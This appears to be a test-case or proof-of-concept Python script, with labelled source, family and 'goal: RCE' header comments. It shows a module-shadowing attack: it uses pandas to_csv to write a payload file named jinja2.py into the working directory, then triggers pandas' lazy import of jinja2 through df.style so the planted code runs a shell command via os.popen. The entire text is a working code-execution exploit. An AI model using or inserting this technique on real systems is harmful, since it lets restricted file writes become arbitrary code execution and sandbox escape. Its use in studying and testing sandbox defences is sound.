# source: sys.path[0]='' module shadowing (docs.python.org security_warnings: -P/PYTHONSAFEPATH) + pandas import_optional_dependency
# family: plant module via allowed relative write (to_csv/savetxt) + lazy import of optional dependency from cwd (df.style -> jinja2)
# goal: RCE: id
import pandas as pd
payload = "import os;print(os.popen('id').read())"
pd.DataFrame({"c": [payload]}).to_csv("jinja2.py", index=False, header=False)
df = pd.DataFrame({"a": [1.0, 2.0, 3.0]})
print(df.style.format(precision=2).to_html())
